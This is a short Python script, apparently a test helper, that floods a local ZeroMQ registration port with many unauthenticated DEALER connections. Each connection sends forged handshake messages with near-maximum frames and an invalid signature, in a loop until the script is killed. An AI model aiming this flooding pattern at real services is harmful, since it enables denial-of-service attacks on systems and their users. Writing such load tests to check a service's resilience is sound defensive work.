"""A flooding process: CONNS unauthenticated DEALER connections to the registration port on
127.0.0.1, each sending forged messages with frames just under the socket's limit (a signature
no key verifies) as fast as libzmq takes them, until it is killed.

    python3 flooder.py PORT CONNS FRAME
"""

import json
import sys
import time

import zmq


def main(port: int, conns: int, frame: int) -> None:
    ctx = zmq.Context()
    sockets = []
    for _ in range(conns):
        s = ctx.socket(zmq.DEALER)
        s.setsockopt(zmq.LINGER, 0)
        s.connect(f"tcp://127.0.0.1:{port}")
        sockets.append(s)
    header = json.dumps({"msg_id": "forged", "msg_type": "handshake_request",
                         "pad": "x" * frame}).encode()[:frame]
    message = [b"<IDS|MSG>", b"0" * 64, header, b"{}", b"{}", b"{}"]
    while True:
        for s in sockets:
            try:
                s.send_multipart(message, zmq.NOBLOCK)
            except zmq.Again:
                pass
        time.sleep(0)


if __name__ == "__main__":
    main(*map(int, sys.argv[1:4]))
